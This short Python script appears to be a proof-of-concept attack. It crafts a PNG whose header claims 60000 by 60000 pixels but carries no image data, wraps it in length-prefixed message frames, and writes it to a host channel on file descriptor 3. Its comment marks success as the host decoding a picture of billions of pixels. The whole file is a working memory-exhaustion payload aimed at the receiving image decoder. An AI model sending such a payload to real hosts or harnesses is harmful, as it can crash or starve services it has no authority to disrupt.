# success: the host decodes a picture of billions of pixels sent as a frame
import zlib, struct, os
def chunk(t, d): return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d))
png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 60000, 60000, 8, 2, 0, 0, 0)) + chunk(b"IDAT", b"") + chunk(b"IEND", b"")
body = b"\x0a" + bytes([len(png)]) + png
frame = b"\x1a" + bytes([len(body)]) + body
os.write(3, struct.pack("<I", len(frame)) + frame)
print("sent")
